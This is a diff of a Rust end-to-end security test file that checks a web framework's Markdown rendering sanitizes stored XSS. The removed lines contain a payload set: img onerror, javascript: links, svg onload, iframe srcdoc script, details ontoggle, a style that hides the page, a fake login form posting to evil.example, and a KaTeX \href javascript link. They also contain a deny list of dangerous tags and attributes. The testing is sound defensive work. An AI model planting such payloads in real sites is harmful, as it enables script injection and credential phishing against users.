@@ -2,44 +2,16 @@
 //! server, but `MarkdownJS` turned it back into live markup (`innerHTML =
 //! marked.parse(textContent)`). Sanitized by default now: the injected script must not run in
 //! the page that shows it, in the plain and the KaTeX variant, while the Markdown still renders.
-//! The server-side renderer (`markdown()`) gets the same payloads.
+//! The server-side renderer (`markdown()`) gets the same payloads in
+//! examples/tests/markdown_preview.rs.
 //!
 //! FastHTML's `MarkdownJS`/`KatexMarkdownJS` have no sanitizer: every payload below that runs
 //! in the `.trusted()` control page (FastHTML's exact script) runs in a FastHTML app too.
 
+use crate::common::markdown_payloads::{KATEX_PAYLOAD, PAYLOAD};
 use crate::common::{Running, TempDir, client, e2e_with, repo_root};
 use crate::todo;
 use ft_web::prelude::*;
-
-/// What an attacker stores: each line is a way to run script once the Markdown is rendered
-/// (the links' `void(..)` keeps a clicked link from replacing the page, so the flag survives);
-/// `**bold**`, the list and the https link are the harmless Markdown that must still render.
-pub const PAYLOAD: &str = r#"**bold** text, a [safe link](https://example.com/) and a list:
-
-- one
-- two
-
-<img src="data:," onerror="window.__pwned='img_onerror';document.title='pwned'">
-
-[js link](javascript:void(window.__pwned='markdown_link'))
-
-<a href="JaVaScRiPt:void(window.__pwned='raw_href')">raw link</a>
-
-<svg onload="window.__pwned='svg_onload'"><circle r="4"></circle></svg>
-
-<iframe srcdoc="<script>parent.__pwned='iframe_srcdoc'</script>"></iframe>
-
-<details open ontoggle="window.__pwned='details_ontoggle'"><summary>more</summary>x</details>
-
-<style>body { display: none }</style>
-
-<form action="https://evil.example/"><input name="pwd"><button>log in again</button></form>
-"#;
-
-/// The KaTeX variant's extra: KaTeX runs with `trust: true` (as in FastHTML), so `\href` makes
-/// a link with any URL.
-const KATEX_PAYLOAD: &str =
-    r"Math $x^2$ and $\href{javascript:void(window.__pwned='katex_href')}{a math link}$.";
 
 fn page(script: Ft, text: String) -> Ft {
     (
@@ -135,55 +107,6 @@ async fn markdown_xss_stored_payload_reaches_the_page_escaped_with_the_sanitizer
     assert_eq!(r.status(), 200);
     assert!(r.header("content-type").unwrap().contains("javascript"));
     assert!(r.text().contains("DOMPurify"));
-}
-
-/// The server-side renderer on the same payloads, through the todo app's preview.
-#[actix_web::test]
-async fn markdown_xss_server_side_preview_is_sanitized() {
-    let dir = TempDir::new("sec-md");
-    let c = client(todo::app(&dir.file("t.db"))).await;
-    c.post("/login")
-        .form([("name", "mallory"), ("pwd", "pw")])
-        .send()
-        .await;
-    for text in [PAYLOAD, KATEX_PAYLOAD] {
-        let r = c
-            .post("/preview")
-            .htmx()
-            .form([("details", text)])
-            .send()
-            .await;
-        assert_eq!(r.status(), 200, "{}", r.text());
-        let html = r.text().to_ascii_lowercase();
-        // In tags and attributes; the KaTeX text keeps `\href{javascript:..}` as plain text.
-        for bad in [
-            "<script",
-            "<iframe",
-            "<svg",
-            "<style",
-            "<form",
-            "\"javascript:",
-            " onerror=",
-            " onload=",
-            " ontoggle=",
-            " srcdoc=",
-        ] {
-            assert!(!html.contains(bad), "{bad} in {html}");
-        }
-    }
-    let html = c
-        .post("/preview")
-        .htmx()
-        .form([("details", PAYLOAD)])
-        .send()
-        .await
-        .text();
-    assert!(html.contains("<strong>bold</strong>"), "{html}");
-    assert!(html.contains("<li>two</li>"), "{html}");
-    assert!(
-        html.contains("<a href=\"https://example.com/\" rel=\"noopener noreferrer\">safe link</a>"),
-        "{html}"
-    );
 }
 
 /// In Chromium: a user stores the payload in a todo's details through the app's own forms and
